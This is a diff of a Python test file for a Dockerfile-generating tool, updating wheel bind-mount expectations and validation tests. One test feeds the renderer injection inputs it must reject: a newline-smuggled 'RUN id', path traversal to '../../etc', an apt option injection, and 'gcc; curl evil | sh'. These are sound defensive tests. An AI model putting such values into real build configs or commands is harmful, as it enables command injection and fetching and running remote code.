@@ -16,7 +16,7 @@ from test_escape import buildkit_words
 from containerize import config, syspackages
 from containerize.engine import buildx
 from containerize.errors import ConfigError
-from containerize.image import buildcache, dockerfile, layers, pins, plan
+from containerize.image import buildcache, dockerfile, layerfolders, layers, pins, plan
 from containerize.platforms import LINUX_AMD64, LINUX_ARM64, Platform
 from containerize.resolve.wheelhouse import Needs
 
@@ -127,7 +127,10 @@ def test_one_final_target_per_server_with_its_stop_signal(hello: config.Config) 
 def test_installs_are_offline_hash_checked_and_bind_mounted(hello: config.Config) -> None:
     text = dockerfile.render(make(hello))
     deps = stage(text, "layer-pillow")
-    assert "RUN --network=none --mount=type=bind,from=wheels,target=/wheelhouse" in deps
+    assert (
+        "RUN --network=none --mount=type=bind,from=wheels,source=layers/layer-pillow,"
+        "target=/wheelhouse"
+    ) in deps
     # Each platform's folder is a context of its own, chosen by the target platform.
     wheels = "FROM wheelhouse-${TARGETOS}-${TARGETARCH}${TARGETVARIANT} AS wheels"
     assert wheels in text
@@ -136,15 +139,15 @@ def test_installs_are_offline_hash_checked_and_bind_mounted(hello: config.Config
     assert (
         "/usr/bin/python3 /containerize-steps/wheels.py install --venv /opt/venv "
         "--wheelhouse /wheelhouse --tools /tools --python-version 3.11 --root /layer "
-        "--compile --only pillow install-base.json"
+        "--compile install.json"
     ) in deps
     assert "COPY --from=wheelhouse" not in text
     assert "pip install" not in text
     assert "/opt/containerize/pip" not in text
     # Pure wheels are read from the first platform's folder, the same for every target.
-    assert "--mount=type=bind,from=pure-wheels,target=/wheelhouse" in stage(text, "layer-django")
+    assert "from=pure-wheels,source=layers/layer-django," in stage(text, "layer-django")
     assert "FROM wheelhouse-linux-amd64 AS pure-wheels" in text
-    assert "install-gunicorn.json" in stage(text, "server-gunicorn")
+    assert "from=pure-wheels,source=layers/server-gunicorn," in stage(text, "server-gunicorn")
 
 
 def _froms(text: str) -> dict[str, str]:
@@ -644,11 +647,14 @@ def test_hostile_server_stage_values(hello: config.Config) -> None:
     for bad, message in [
         (replace(gunicorn, stop_signal="SIGTERM\nRUN id"), "the gunicorn server: "),
         (replace(gunicorn, name="gunicorn AS x"), "cannot name a build stage"),
-        (replace(gunicorn, manifest="../../etc/x.json"), "not a file name in the wheelhouse"),
         (replace(gunicorn, runtime_packages=("-oAPT::Update=x",)), "not a Debian package"),
     ]:
         with pytest.raises(ConfigError, match=message):
             dockerfile.render(replace(p, servers=(bad,)))
+    # The manifest is read from the wheelhouse folder when the layer folders are written.
+    bad = replace(gunicorn, manifest="../../etc/x.json")
+    with pytest.raises(ConfigError, match="not a file name in the wheelhouse"):
+        layerfolders.write(replace(p, servers=(bad,)), [Path("/nonexistent/linux-amd64")])
     bad = replace(gunicorn, build_packages=("gcc; curl evil | sh",))
     with pytest.raises(ConfigError, match="not a Debian package"):
         dockerfile.render_compile(replace(p, servers=(bad,)))
